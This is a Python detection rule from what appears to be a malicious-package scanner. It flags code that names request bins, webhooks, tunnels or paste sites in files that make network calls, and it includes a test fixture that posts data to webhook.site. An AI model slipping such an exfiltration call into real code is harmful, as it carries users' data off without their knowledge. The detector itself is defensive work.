"""A host that serves to carry things off."""

from __future__ import annotations

from typing import TYPE_CHECKING

from veln_hook.signals.source.rule import BY_ITSELF, HOLD, INFO, REVIEW, Hit, Rule
from veln_hook.source import vocabulary as v

if TYPE_CHECKING:
    from collections.abc import Iterator

    from veln_hook.signals.source.view import View


def _find(view: View) -> Iterator[Hit]:
    senders = view.paths(v.NET) | view.paths(v.PROC)
    for url in view.of(v.URL):
        if "address" in url.flags or "plain" in url.flags or url.path not in senders:
            continue
        strong = "strong" in url.flags
        itself = url.reach in BY_ITSELF
        grade = (
            HOLD if strong and itself else REVIEW if strong or (itself and "hidden" in url.flags) else INFO
        )
        yield Hit(
            f"it names {url.detail}, which serves to carry data off or to hide a payload", (url,), grade
        )


RULE = Rule(
    name="exfiltration-host",
    description=(
        "It names a request bin, a webhook, a tunnel or a paste site, in a file that reaches the network."
    ),
    grade=HOLD,
    find=_find,
    fires={"acme/__init__.py": "import requests\nrequests.post('https://webhook.site/1234', data='x')\n"},
    quiet={
        "acme/__init__.py": (
            "import requests\n\ndef ask():\n    return requests.get('https://pypi.org/simple/')\n"
        )
    },
    rates="614 of 2,004 malicious clusters, 7 of 200 popular archives name one anywhere",
)
